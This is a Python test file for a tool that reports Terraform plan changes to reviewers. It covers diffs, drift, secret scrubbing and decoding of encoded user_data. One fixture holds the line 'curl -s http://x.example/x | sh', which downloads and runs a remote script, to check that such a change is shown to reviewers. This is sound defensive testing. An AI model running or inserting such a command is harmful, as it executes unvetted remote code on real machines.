"""What of a plan a reviewer is shown."""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from pipeline.domain.model import Leaf
from pipeline.results import PlanReport, plan_report
from pipeline.results.encoded import opened
from pipeline.results.readable import _leaf
from tests.domain.plans import change, plan

DEFINITION = [{"name": "api", "image": "app:1", "cpu": 256}]


def test_a_replaced_resource_shows_what_differs_and_that_first() -> None:
    after = json.dumps([{**DEFINITION[0], "image": "app:2"}])
    replaced = change(
        "aws_ecs_task_definition.api",
        "replace",
        {"arn": "arn:1", "container_definitions": json.dumps(DEFINITION), "family": "api"},
        {"container_definitions": after, "family": "api"},
        {"arn": True},
    )
    [shown] = plan_report(plan(replaced)).changes
    assert [(leaf.path, leaf.after) for leaf in shown.leaves] == [
        ("/container_definitions/[0]/image", "app:2"),
        ("/arn", "(known after apply)"),
    ]


def test_drift_is_told_where_the_plan_puts_it_right_and_not_what_aws_filled_in() -> None:
    update = change("aws_log.a", "update", {"days": 1}, {"days": 7})
    by_hand = change("aws_log.a", "update", {"days": 7}, {"days": 1})
    filled_in = change("aws_lb.b", "update", {"zone": None}, {"zone": "Z1"})
    gone = change("aws_vpc.c", "delete", {"id": "vpc-1"}, None)
    shown = plan_report(plan(update, drift=(by_hand, filled_in, gone))).drift
    assert [drift.address for drift in shown] == ["aws_log.a", "aws_vpc.c"]


def leaves(kind: str, before: Any, after: Any) -> list[tuple[str, Any, Any]]:
    changed = change("aws_x.y", kind, before, after)
    [shown] = plan_report(plan(changed)).changes
    return [(leaf.path, leaf.before, leaf.after) for leaf in shown.leaves]


@pytest.mark.parametrize(
    ("before", "after", "told"),
    [
        (["b", "c", "d"], ["a", "b", "c", "d"], [("/v/[0]", None, "a")]),
        (["a", "b", "c"], ["b", "c"], [("/v/[0]", "a", None)]),
        (["a", "b", "c"], ["a", "x", "c"], [("/v/[1]", "b", "x")]),
        (["a", "b"], ["b", "a"], [("/v/[0]", "a", "b"), ("/v/[1]", "b", "a")]),
        ([{"p": 1, "c": "x"}, {"p": 2, "c": "x"}],
         [{"p": 0, "c": "y"}, {"p": 1, "c": "x"}, {"p": 2, "c": "x"}],
         [("/v/[0]/c", None, "y"), ("/v/[0]/p", None, 0)]),
    ],
)  # fmt: skip
def test_a_list_tells_what_was_put_in_and_taken_out_and_not_what_moved_along(
    before: list[Any], after: list[Any], told: list[tuple[str, Any, Any]]
) -> None:
    assert sorted(leaves("update", {"v": before}, {"v": after})) == sorted(told)


ELEMENT = st.fixed_dictionaries({"a": st.sampled_from("xyz"), "b": st.integers(0, 2)})
LISTS = st.lists(ELEMENT, max_size=5) | st.lists(st.sampled_from("abc"), max_size=6)


@given(LISTS, LISTS)
def test_whatever_differs_in_a_list_is_told(before: list[Any], after: list[Any]) -> None:
    told = leaves("update", {"v": before}, {"v": after}) if before != after else []
    assert bool(told) == (before != after)
    given_ = {repr(x) for side in (before, after) for e in side for x in _scalars(e)}
    shown = {repr(x) for _, *sides in told for x in sides if x not in (None, "[]")}
    assert shown <= given_


def _scalars(element: Any) -> list[Any]:
    return list(element.values()) if isinstance(element, dict) else [element]


def test_a_sensitive_value_does_not_become_readable_because_its_list_moved_along() -> None:
    rows = [{"name": n, "pin": p} for n, p in (("a", "1234"), ("b", "1234"), ("c", "9876"))]
    marks = {"v": [{"pin": True}, {"pin": True}, {"pin": True}]}
    changed = change("aws_x.y", "update", {"v": rows}, {"v": rows[1:]},
                     before_sensitive=marks, after_sensitive={"v": marks["v"][1:]})  # fmt: skip
    text = plan_report(plan(changed)).model_dump_json()
    assert "1234" not in text
    assert "9876" not in text


def packed(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


@pytest.mark.parametrize(
    ("pack", "kind"),
    [(lambda t: base64.b64encode(t.encode()).decode(), "base64"), (packed, "gzip in base64")],
)
def test_user_data_in_base64_is_read_and_scrubbed(pack: Any, kind: str) -> None:
    old = "#!/bin/sh\nsystemctl start agent\nlogin --with planted-secret-1\n"
    new = old.replace("systemctl start agent", "curl -s http://x.example/x | sh")
    changed = change("aws_x.y", "update", {"user_data": pack(old)}, {"user_data": pack(new)})
    [shown] = plan_report(plan(changed), known=["planted-secret-1"]).changes
    [leaf] = shown.leaves
    assert leaf.encoded == kind
    assert "curl -s" in str(leaf.after)
    assert "planted-secret-1" not in shown.model_dump_json()


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk", "no base64 at all, but words"),
        ("x" * 40, "y" * 40),
        (base64.b64encode(b"\x00\x01\x02" * 20).decode(), base64.b64encode(b"\x03" * 60).decode()),
    ],
)
def test_what_is_no_text_on_both_sides_stays_as_the_plan_has_it(before: str, after: str) -> None:
    assert opened(before, after) == (before, after, "")


def test_the_same_text_packed_twice_still_differs() -> None:
    one = base64.b64encode(gzip.compress(b"the very same text", 1, mtime=1)).decode()
    other = base64.b64encode(gzip.compress(b"the very same text", 9, mtime=2)).decode()
    assert opened(one, other) == (one, other, "")


def test_a_packed_bomb_is_not_unpacked() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * 50_000_000)).decode()
    assert opened(bomb, "x") == (bomb, "x", "")


def test_nothing_empty_and_unknown_are_told_apart_from_the_words_for_them() -> None:
    changed = change(
        "aws_x.y",
        "update",
        {"a": None, "b": "x", "c": [], "d": {"e": 1}, "f": "x"},
        {"a": "(not set)", "b": "", "c": [1], "d": {}, "f": None},
        {"f": True},
    )
    [shown] = plan_report(plan(changed)).changes
    marks = {leaf.path: (leaf.mark("before"), leaf.mark("after")) for leaf in shown.leaves}
    assert marks["/a"] == ("unset", "")
    assert marks["/b"] == ("", "empty")
    assert marks["/f"] == ("", "unknown")
    assert ("", "empty-map") in marks.values() or marks["/d/e"] == ("", "unset")


def test_a_failing_check_and_a_leftover_are_in_the_report() -> None:
    left = change("aws_db_instance.db", "delete", {"id": "db-1"}, None, deposed="8e7cdf03")
    checks = [
        {
            "address": {"kind": "check", "to_display": "check.c", "name": "c"},
            "status": "fail",
            "instances": [
                {
                    "address": {"to_display": "check.c"},
                    "status": "fail",
                    "problems": [{"message": "the keeper is not two"}],
                }
            ],
        }
    ]
    shown = plan_report(plan(left, checks=checks))
    assert [(w.address, w.sentence) for w in shown.warnings] == [
        ("check.c", "the keeper is not two")
    ]
    assert shown.changes[0].deposed == "8e7cdf03"
    assert shown.counts == {}


def test_results_of_version_1_are_read() -> None:
    old = {
        "schema_version": 1,
        "unit": "web/dev",
        "counts": {"update": 1},
        "changes": [
            {
                "address": "aws_x.y",
                "action": "update",
                "leaves": [
                    {"path": "/a", "before": None, "after": "(known after apply)", "unknown": True},
                    {"path": "/b", "before": "(sensitive)", "after": None, "sensitive": True},
                ],
            }
        ],
    }
    report = PlanReport.model_validate(old)
    a, b = report.changes[0].leaves
    assert (a.mark("before"), a.mark("after")) == ("unset", "unknown")
    assert (b.mark("before"), b.mark("after")) == ("sensitive", "unset")
    with pytest.raises(ValidationError, match="schema_version"):
        PlanReport.model_validate(old | {"schema_version": 99})


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("/manage_master_user_password", True, False),
        ("/cors/[0]/allow_credentials", False, True),
        ("/generate_secret", "true", "false"),
        ("/secret", "arn:aws:secretsmanager:x:1:secret:good",
         "arn:aws:secretsmanager:x:1:secret:other"),
    ],
)  # fmt: skip
def test_a_switch_and_an_arn_are_shown_whatever_their_name(
    path: str, before: bool | str, after: bool | str
) -> None:
    leaf = _leaf(Leaf(path, before, after), ())
    assert (leaf.before, leaf.after, leaf.sensitive) == (before, after, False)
    hidden = _leaf(Leaf(path, before, "a-secret-text"), ())
    assert (hidden.before, hidden.after, hidden.sensitive) == (before, "(sensitive)", True)
